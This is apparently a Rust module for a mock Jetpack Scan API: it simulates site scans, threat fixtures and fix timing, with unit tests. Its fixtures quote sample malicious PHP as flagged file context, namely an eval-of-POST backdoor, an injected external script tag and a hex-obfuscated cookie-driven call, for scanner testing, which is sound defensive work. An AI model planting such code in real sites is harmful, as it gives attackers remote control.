//! Jetpack Scan as the sandbox plays it: each site's scanner, the threats it
//! found, and how scans and fixes move on with time.
//!
//! Nothing here reads the clock. The functions that move time on are given
//! it (`now`, milliseconds since 1970) by `scan.rs`, which reads it in one
//! place. Time moves on lazily: a scan or a fix that should have ended by
//! `now` ends when a route next looks at the site, with the time it ended.
//!
//! A site under `*.infected.test` carries [`FIXTURES`], one threat of each
//! severity and more, fixable and not; under `*.fixfails.infected.test`
//! every fix ends `not_fixed`. Any other site scans clean.

use serde::{Deserialize, Serialize};
use serde_json::{json, Map, Value};

use super::dates;

/// How long a scan takes by default, in milliseconds.
pub(crate) const DEFAULT_SCAN_MS: u64 = 2_000;

/// How long a fix takes by default, in milliseconds (an `update` fixer
/// twice that).
pub(crate) const DEFAULT_FIX_MS: u64 = 1_000;

const DAY_MS: u64 = 86_400_000;

/// How long scans and fixes take.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct Timing {
    pub scan_ms: u64,
    pub fix_ms: u64,
}

impl Default for Timing {
    fn default() -> Timing {
        Timing {
            scan_ms: DEFAULT_SCAN_MS,
            fix_ms: DEFAULT_FIX_MS,
        }
    }
}

/// What a site's host makes of its scans.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Kind {
    Clean,
    Infected,
    /// Infected, and every fix fails.
    FixesFail,
}

impl Kind {
    pub fn of_host(host: &str) -> Kind {
        if host.ends_with(".fixfails.infected.test") {
            Kind::FixesFail
        } else if host.ends_with(".infected.test") {
            Kind::Infected
        } else {
            Kind::Clean
        }
    }
}

/// One site's scanner, kept in the state (and its file).
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub(crate) struct Scanner {
    /// The last scan that ended.
    pub last: Scan,
    /// The scan under way.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub running: Option<Scan>,
    #[serde(default)]
    pub threats: Vec<Threat>,
}

/// One scan: when it started and when it ends.
#[derive(Clone, Copy, Debug, Default, Serialize, Deserialize)]
pub(crate) struct Scan {
    pub started: u64,
    pub ends: u64,
    #[serde(default)]
    pub is_initial: bool,
}

/// A threat on a site: one of [`FIXTURES`], where it stands, its fix.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub(crate) struct Threat {
    pub id: u64,
    pub fixture: usize,
    pub status: Status,
    pub first_detected: u64,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub fix: Option<Fix>,
}

/// A threat's status, as the API names it.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub(crate) enum Status {
    #[default]
    Current,
    New,
    Ignored,
    Fixed,
}

impl Status {
    fn as_str(self) -> &'static str {
        match self {
            Status::Current => "current",
            Status::New => "new",
            Status::Ignored => "ignored",
            Status::Fixed => "fixed",
        }
    }
}

/// A fixer run: when it started, when it ends, and whether it fails.
#[derive(Clone, Copy, Debug, Default, Serialize, Deserialize)]
pub(crate) struct Fix {
    pub started: u64,
    pub ends: u64,
    pub fails: bool,
    #[serde(default)]
    pub ended: bool,
}

/// What happened while time moved on.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Event {
    ScanEnded { at: u64 },
    Fixed { threat: u64, at: u64 },
    NotFixed { threat: u64, at: u64 },
}

/// Why a threat action is refused.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Refusal {
    /// The threat has no automatic fix.
    NotFixable,
    /// The threat is fixed: there is nothing to ignore.
    AlreadyFixed,
}

impl Scanner {
    /// A scanner that has just been set up: its initial scan ended an hour
    /// ago, and found the threats of `kind`.
    pub fn new(blog_id: u64, kind: Kind, now: u64) -> Scanner {
        let started = now.saturating_sub(3_600_000);
        let last = Scan {
            started,
            ends: started + 41_000,
            is_initial: true,
        };
        let threats = match kind {
            Kind::Clean => Vec::new(),
            Kind::Infected | Kind::FixesFail => FIXTURES
                .iter()
                .enumerate()
                .map(|(i, fixture)| Threat {
                    id: blog_id.saturating_mul(1000).saturating_add(i as u64 + 1),
                    fixture: i,
                    status: if fixture.new {
                        Status::New
                    } else {
                        Status::Current
                    },
                    first_detected: if fixture.new {
                        started
                    } else {
                        started.saturating_sub(fixture.days_ago * DAY_MS)
                    },
                    fix: None,
                })
                .collect(),
        };
        Scanner {
            last,
            running: None,
            threats,
        }
    }

    /// Ends what should have ended by `now`, in the order it ended.
    pub fn advance(&mut self, now: u64) -> Vec<Event> {
        let mut events = Vec::new();
        if let Some(scan) = self.running.filter(|scan| scan.ends <= now) {
            self.running = None;
            self.last = scan;
            // Seen twice now: no longer new.
            for threat in &mut self.threats {
                if threat.status == Status::New {
                    threat.status = Status::Current;
                }
            }
            events.push(Event::ScanEnded { at: scan.ends });
        }
        for threat in &mut self.threats {
            let Some(fix) = threat.fix.as_mut().filter(|f| !f.ended && f.ends <= now) else {
                continue;
            };
            fix.ended = true;
            let (threat_id, at) = (threat.id, fix.ends);
            if fix.fails {
                events.push(Event::NotFixed {
                    threat: threat_id,
                    at,
                });
            } else {
                threat.status = Status::Fixed;
                events.push(Event::Fixed {
                    threat: threat_id,
                    at,
                });
            }
        }
        events.sort_by_key(|e| match *e {
            Event::ScanEnded { at } | Event::Fixed { at, .. } | Event::NotFixed { at, .. } => at,
        });
        events
    }

    /// Starts a scan, unless one is under way.
    pub fn enqueue(&mut self, now: u64, timing: Timing) {
        if self.running.is_none() {
            self.running = Some(Scan {
                started: now,
                ends: now.saturating_add(timing.scan_ms),
                is_initial: false,
            });
        }
    }

    /// The index of the threat with this ID.
    pub fn find(&self, id: u64) -> Option<usize> {
        self.threats.iter().position(|t| t.id == id)
    }

    /// Starts the fixer of a threat. A fixed threat, or one whose fixer is
    /// running, is left as it is.
    pub fn fix(&mut self, at: usize, now: u64, timing: Timing, fails: bool) -> Result<(), Refusal> {
        let threat = &mut self.threats[at];
        let fixture = &FIXTURES[threat.fixture];
        let Some(fixer) = &fixture.fixer else {
            return Err(Refusal::NotFixable);
        };
        let running = threat.fix.is_some_and(|f| !f.ended);
        if threat.status == Status::Fixed || running {
            return Ok(());
        }
        // A plugin or theme update takes longer than a file edit.
        let factor = if fixer.kind == "update" { 2 } else { 1 };
        threat.fix = Some(Fix {
            started: now,
            ends: now.saturating_add(timing.fix_ms.saturating_mul(factor)),
            fails,
            ended: false,
        });
        Ok(())
    }

    /// Marks a threat ignored; a fixed one is refused.
    pub fn ignore(&mut self, at: usize) -> Result<(), Refusal> {
        let threat = &mut self.threats[at];
        if threat.status == Status::Fixed {
            return Err(Refusal::AlreadyFixed);
        }
        threat.status = Status::Ignored;
        Ok(())
    }

    /// `idle` or `scanning`.
    pub fn state(&self) -> &'static str {
        if self.running.is_some() {
            "scanning"
        } else {
            "idle"
        }
    }

    /// The answer of `GET …/scan` (reference 4.1).
    pub fn answer(&self, now: u64) -> Value {
        json!({
            "state": self.state(),
            "threats": self.threats_json(),
            "has_cloud": true,
            "credentials": credentials(),
            "most_recent": self.most_recent(now),
        })
    }

    /// The answer of `POST …/alerts/{threat_id}` (reference 4.3).
    pub fn alerts(&self, now: u64) -> Value {
        json!({
            "alerts": {"threats": self.threats_json()},
            "credentials": credentials(),
            "downloads": [],
            "state": "active",
            "last_updated": iso(now, Style::OffsetMillis),
        })
    }

    fn threats_json(&self) -> Vec<Value> {
        self.threats.iter().map(Threat::to_json).collect()
    }

    /// The scan under way, or the last one.
    fn most_recent(&self, now: u64) -> Value {
        let (scan, progress, until) = match self.running {
            Some(scan) => {
                let length = scan.ends.saturating_sub(scan.started).max(1);
                let done = now.saturating_sub(scan.started).min(length);
                (scan, (done * 100 / length).min(99), now.min(scan.ends))
            }
            None => (self.last, 100, self.last.ends),
        };
        json!({
            "is_initial": scan.is_initial,
            "timestamp": iso(scan.started, Style::Offset),
            "duration": until.saturating_sub(scan.started) / 1000,
            "progress": progress,
            "error": false,
        })
    }

    /// A threat's entry in the answers of `…/alerts/fix` (reference 4.4,
    /// 4.5): its fixer's state, or an error instead.
    pub fn fix_entry(&self, id: u64) -> Value {
        let Some(threat) = self.find(id).map(|at| &self.threats[at]) else {
            return json!({"error": format!("No threat {id} on this site.")});
        };
        if FIXTURES[threat.fixture].fixer.is_none() {
            return json!({"error": "This threat cannot be fixed automatically."});
        }
        let (state, updated) = match threat.fix {
            None if threat.status == Status::Fixed => ("fixed", threat.first_detected),
            None => ("not_started", threat.first_detected),
            Some(fix) if !fix.ended => ("in_progress", fix.started),
            Some(fix) if fix.fails => ("not_fixed", fix.ends),
            Some(fix) => ("fixed", fix.ends),
        };
        json!({"status": state, "last_updated": iso(updated, Style::OffsetMillis)})
    }
}

/// The answer of `GET …/scan` for a site whose scanner cannot scan:
/// `provisioning` or `unavailable`.
pub(crate) fn not_ready(state: &str) -> Value {
    json!({
        "state": state,
        "threats": [],
        "has_cloud": state != "unavailable",
        "credentials": [],
        "most_recent": null,
    })
}

fn credentials() -> Value {
    json!([{"still_valid": true, "type": "managed", "role": "main"}])
}

impl Threat {
    fn to_json(&self) -> Value {
        let fixture = &FIXTURES[self.fixture];
        let fixer = fixture.fixer.as_ref().map(FixerFixture::to_json);
        let mut body = Map::new();
        let mut put = |key: &str, value: Value| {
            body.insert(key.to_owned(), value);
        };
        put("id", json!(self.id));
        put("signature", json!(fixture.signature));
        put("title", json!(fixture.title));
        put("description", json!(fixture.description));
        put(
            "vulnerability_description",
            json!(format!("Threat found {}", fixture.signature)),
        );
        put("fix_description", json!(fixture.fix_description));
        put("payload_subtitle", Value::Null);
        put("payload_description", Value::Null);
        put(
            "first_detected",
            json!(iso(self.first_detected, Style::Zulu)),
        );
        put("severity", json!(fixture.severity));
        put("fixer", fixer.clone().unwrap_or(Value::Null));
        put("status", json!(self.status.as_str()));
        put("fixable", fixer.unwrap_or(Value::Bool(false)));
        if let Some(file) = fixture.filename {
            put("filename", json!(file));
        }
        if let Some(context) = &fixture.context {
            put("context", context.to_json());
        }
        if let Some(extension) = &fixture.extension {
            put("extension", extension.to_json());
        }
        // Not in the reference; the service sends it for a fixed threat.
        if let Some(fix) = self.fix.filter(|f| f.ended && !f.fails) {
            put("fixed_on", json!(iso(fix.ends, Style::Zulu)));
        }
        Value::Object(body)
    }
}

/// The text of one kind of threat.
pub(crate) struct Fixture {
    signature: &'static str,
    title: &'static str,
    description: &'static str,
    fix_description: &'static str,
    severity: u8,
    fixer: Option<FixerFixture>,
    filename: Option<&'static str>,
    context: Option<Context>,
    extension: Option<Extension>,
    /// How long before the initial scan it was first found.
    days_ago: u64,
    /// Found for the first time by the initial scan.
    new: bool,
}

struct FixerFixture {
    kind: &'static str,
    file: Option<&'static str>,
    target: Option<&'static str>,
    extension_status: Option<&'static str>,
}

impl FixerFixture {
    fn to_json(&self) -> Value {
        let mut body = Map::new();
        body.insert("fixer".into(), json!(self.kind));
        if let Some(file) = self.file {
            body.insert("file".into(), json!(file));
        }
        if let Some(target) = self.target {
            body.insert("target".into(), json!(target));
        }
        if let Some(status) = self.extension_status {
            body.insert("extensionStatus".into(), json!(status));
        }
        Value::Object(body)
    }
}

/// Offending lines by number, and the marked spans (line, from, to).
struct Context {
    lines: &'static [(u32, &'static str)],
    marks: &'static [(u32, u32, u32)],
}

impl Context {
    fn to_json(&self) -> Value {
        let mut body = Map::new();
        for (number, line) in self.lines {
            body.insert(number.to_string(), json!(line));
        }
        let mut marks = Map::new();
        for (number, from, to) in self.marks {
            marks.insert(number.to_string(), json!([[from, to]]));
        }
        body.insert("marks".into(), Value::Object(marks));
        Value::Object(body)
    }
}

struct Extension {
    name: &'static str,
    slug: &'static str,
    kind: &'static str,
    version: &'static str,
}

impl Extension {
    fn to_json(&self) -> Value {
        json!({
            "isPremium": false,
            "name": self.name,
            "slug": self.slug,
            "type": self.kind,
            "version": self.version,
        })
    }
}

const UPLOADS: &str = "/var/www/html/wp-content/uploads/2024/05/cache.php";
const VERSION_PHP: &str = "/var/www/html/wp-includes/version.php";
const WP_CONFIG: &str = "/var/www/html/wp-config.php";
const EICAR: &str = "/var/www/html/wp-content/uploads/eicar.com.txt";

/// The threats of an infected site: every severity from 1 to 5, a
/// vulnerable plugin and theme, malware in files, and one threat without
/// an automatic fix. The plugin and theme are made up.
pub(crate) const FIXTURES: &[Fixture] = &[
    Fixture {
        signature: "PHP.Backdoor.EvalPost",
        title: "Malicious code found in file: cache.php",
        description: "This file runs any PHP code sent to it in a POST request. Attackers \
                      leave such files behind to take the site over again later.",
        fix_description: "Jetpack Scan will delete the file: it is not part of WordPress, \
                          a plugin or a theme.",
        severity: 5,
        fixer: Some(FixerFixture {
            kind: "delete",
            file: Some(UPLOADS),
            target: None,
            extension_status: None,
        }),
        filename: Some(UPLOADS),
        context: Some(Context {
            lines: &[
                (1, "<?php"),
                (2, "if ( isset( $_POST['c'] ) ) {"),
                (3, "    @eval( base64_decode( $_POST['c'] ) );"),
                (4, "}"),
            ],
            marks: &[(3, 4, 42)],
        }),
        extension: None,
        days_ago: 3,
        new: false,
    },
    Fixture {
        signature: "Vulnerable.WP.Extension",
        title: "Vulnerable Plugin: Quick Contact Forms (version 2.1.0)",
        description: "Quick Contact Forms 2.1.0 lets a visitor upload a file of any type \
                      through a form, including PHP that the server then runs.",
        fix_description: "Jetpack Scan will update Quick Contact Forms to version 2.1.1, \
                          which fixes the vulnerability.",
        severity: 4,
        fixer: Some(FixerFixture {
            kind: "update",
            file: None,
            target: Some("2.1.1"),
            extension_status: Some("active"),
        }),
        filename: None,
        context: None,
        extension: Some(Extension {
            name: "Quick Contact Forms",
            slug: "quick-contact-forms",
            kind: "plugin",
            version: "2.1.0",
        }),
        days_ago: 12,
        new: false,
    },
    Fixture {
        signature: "Core.File.Modification",
        title: "Compromised WordPress core file: version.php",
        description: "A WordPress core file differs from the one WordPress ships: code was \
                      added that loads a script from another site on every page.",
        fix_description: "Jetpack Scan will replace the file with the one of your \
                          WordPress version.",
        severity: 3,
        fixer: Some(FixerFixture {
            kind: "replace",
            file: Some(VERSION_PHP),
            target: None,
            extension_status: None,
        }),
        filename: Some(VERSION_PHP),
        context: Some(Context {
            lines: &[
                (15, "$wp_version = '6.4.3';"),
                (
                    16,
                    "echo '<script src=\"https://cdn.example.invalid/a.js\"></script>';",
                ),
            ],
            marks: &[(16, 0, 63)],
        }),
        extension: None,
        days_ago: 5,
        new: false,
    },
    Fixture {
        signature: "PHP.Obfuscated.Hex",
        title: "Obfuscated code found in file: wp-config.php",
        description: "wp-config.php holds code written in hex escapes, which hides what it \
                      does. The file also holds the site's database credentials.",
        fix_description: "Jetpack Scan cannot fix this threat automatically: wp-config.php \
                          is the site's own. Remove the code by hand, or ignore the threat \
                          if the code is yours.",
        severity: 3,
        fixer: None,
        filename: Some(WP_CONFIG),
        context: Some(Context {
            lines: &[
                (90, "/* That's all, stop editing! Happy publishing. */"),
                (
                    91,
                    "$f = \"\\x62\\x61\\x73\\x65\\x36\\x34\"; @$f($_COOKIE['k']);",
                ),
            ],
            marks: &[(91, 0, 52)],
        }),
        extension: None,
        days_ago: 1,
        new: false,
    },
    Fixture {
        signature: "Vulnerable.WP.Extension",
        title: "Vulnerable Theme: Sunrise Blog (version 1.4.2)",
        description: "Sunrise Blog 1.4.2 prints a search term back into the page without \
                      escaping it (reflected cross-site scripting).",
        fix_description: "Jetpack Scan will update Sunrise Blog to version 1.4.3.",
        severity: 2,
        fixer: Some(FixerFixture {
            kind: "update",
            file: None,
            target: Some("1.4.3"),
            extension_status: Some("inactive"),
        }),
        filename: None,
        context: None,
        extension: Some(Extension {
            name: "Sunrise Blog",
            slug: "sunrise-blog",
            kind: "theme",
            version: "1.4.2",
        }),
        days_ago: 30,
        new: false,
    },
    Fixture {
        signature: "EICAR_AV_Test",
        title: "Malicious code found in file: eicar.com.txt",
        description: "The EICAR test file: harmless, made for testing virus scanners, and \
                      reported so that you can see Scan at work.",
        fix_description: "Jetpack Scan will delete the file.",
        severity: 1,
        fixer: Some(FixerFixture {
            kind: "delete",
            file: Some(EICAR),
            target: None,
            extension_status: None,
        }),
        filename: Some(EICAR),
        context: Some(Context {
            lines: &[(
                1,
                "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
            )],
            marks: &[(1, 0, 68)],
        }),
        extension: None,
        days_ago: 0,
        new: true,
    },
];

/// How a time is written: the reference shows three forms.
#[derive(Clone, Copy)]
enum Style {
    /// `2022-11-27T20:06:54.000Z` (`first_detected`).
    Zulu,
    /// `2022-11-27T20:41:27+00:00` (`most_recent.timestamp`).
    Offset,
    /// `2022-11-27T21:36:51.593+00:00` (`last_updated`).
    OffsetMillis,
}

/// `ms` (since 1970, UTC) as the API writes times.
fn iso(ms: u64, style: Style) -> String {
    match style {
        Style::Zulu => dates::iso_ms_z(ms),
        Style::Offset => dates::iso(ms / 1000),
        Style::OffsetMillis => dates::iso_ms(ms),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const NOW: u64 = 1_669_579_614_000;
    const TIMING: Timing = Timing {
        scan_ms: 2_000,
        fix_ms: 1_000,
    };

    #[test]
    fn times_are_written_as_the_reference_shows_them() {
        assert_eq!(iso(NOW, Style::Zulu), "2022-11-27T20:06:54.000Z");
        assert_eq!(
            iso(NOW + 593, Style::OffsetMillis),
            "2022-11-27T20:06:54.593+00:00"
        );
        assert_eq!(
            iso(951_782_400_000, Style::Offset),
            "2000-02-29T00:00:00+00:00"
        );
        assert_eq!(iso(0, Style::Offset), "1970-01-01T00:00:00+00:00");
    }

    #[test]
    fn infected_hosts_carry_every_severity_and_one_threat_without_a_fix() {
        assert_eq!(Kind::of_host("a.infected.test"), Kind::Infected);
        assert_eq!(Kind::of_host("a.fixfails.infected.test"), Kind::FixesFail);
        assert_eq!(Kind::of_host("infected.test"), Kind::Clean);
        let scanner = Scanner::new(1000, Kind::Infected, NOW);
        let severities: std::collections::BTreeSet<u8> =
            FIXTURES.iter().map(|f| f.severity).collect();
        assert_eq!(severities.into_iter().collect::<Vec<_>>(), [1, 2, 3, 4, 5]);
        assert!(FIXTURES.iter().any(|f| f.fixer.is_none()));
        assert!(FIXTURES.iter().any(|f| f.extension.is_some()));
        assert_eq!(scanner.threats[0].id, 1_000_001);
        let answer = scanner.answer(NOW);
        assert_eq!(answer["state"], "idle");
        assert_eq!(answer["most_recent"]["is_initial"], true);
        assert_eq!(answer["most_recent"]["duration"], 41);
        let unfixable = &answer["threats"][3];
        assert_eq!(
            (&unfixable["fixable"], &unfixable["fixer"]),
            (&json!(false), &Value::Null)
        );
        assert_eq!(answer["threats"][5]["status"], "new");
        assert!(Scanner::new(1000, Kind::Clean, NOW).threats.is_empty());
    }

    #[test]
    fn a_scan_runs_then_ends_and_new_threats_become_current() {
        let mut scanner = Scanner::new(1000, Kind::Infected, NOW);
        scanner.enqueue(NOW, TIMING);
        scanner.enqueue(NOW + 500, TIMING);
        assert_eq!(
            scanner.running.map(|s| s.started),
            Some(NOW),
            "one scan at a time"
        );
        assert!(scanner.advance(NOW + 500).is_empty());
        let answer = scanner.answer(NOW + 500);
        assert_eq!(answer["state"], "scanning");
        assert_eq!(answer["most_recent"]["progress"], 25);
        assert_eq!(
            scanner.advance(NOW + 9_000),
            [Event::ScanEnded { at: NOW + 2_000 }]
        );
        let answer = scanner.answer(NOW + 9_000);
        assert_eq!(answer["state"], "idle");
        assert_eq!(
            (
                &answer["most_recent"]["progress"],
                &answer["most_recent"]["duration"]
            ),
            (&json!(100), &json!(2))
        );
        assert_eq!(answer["most_recent"]["is_initial"], false);
        assert!(scanner.threats.iter().all(|t| t.status == Status::Current));
    }

    #[test]
    fn a_fix_runs_then_ends_fixed_or_not_fixed() {
        let mut scanner = Scanner::new(1000, Kind::Infected, NOW);
        let (first, update, unfixable) = (0, 1, 3);
        assert_eq!(
            scanner.fix(unfixable, NOW, TIMING, false),
            Err(Refusal::NotFixable)
        );
        let id = scanner.threats[first].id;
        assert_eq!(scanner.fix_entry(id)["status"], "not_started");
        assert_eq!(scanner.fix(first, NOW, TIMING, false), Ok(()));
        assert_eq!(scanner.fix(update, NOW, TIMING, true), Ok(()));
        assert_eq!(scanner.fix_entry(id)["status"], "in_progress");
        let events = scanner.advance(NOW + 1_500);
        assert_eq!(
            events,
            [Event::Fixed {
                threat: id,
                at: NOW + 1_000
            }]
        );
        assert_eq!(scanner.fix_entry(id)["status"], "fixed");
        assert_eq!(scanner.threats[first].status, Status::Fixed);
        assert_eq!(
            scanner.answer(NOW)["threats"][0]["fixed_on"],
            iso(NOW + 1_000, Style::Zulu)
        );
        let update_id = scanner.threats[update].id;
        assert_eq!(
            scanner.advance(NOW + 2_000),
            [Event::NotFixed {
                threat: update_id,
                at: NOW + 2_000
            }],
            "an update takes twice as long"
        );
        assert_eq!(scanner.fix_entry(update_id)["status"], "not_fixed");
        assert_eq!(scanner.threats[update].status, Status::Current);
        assert!(scanner.fix_entry(99)["error"].is_string());
        assert!(scanner.fix_entry(scanner.threats[unfixable].id)["error"].is_string());
        assert_eq!(scanner.ignore(first), Err(Refusal::AlreadyFixed));
        assert_eq!(scanner.ignore(update), Ok(()));
        assert_eq!(scanner.threats[update].status, Status::Ignored);
    }
}
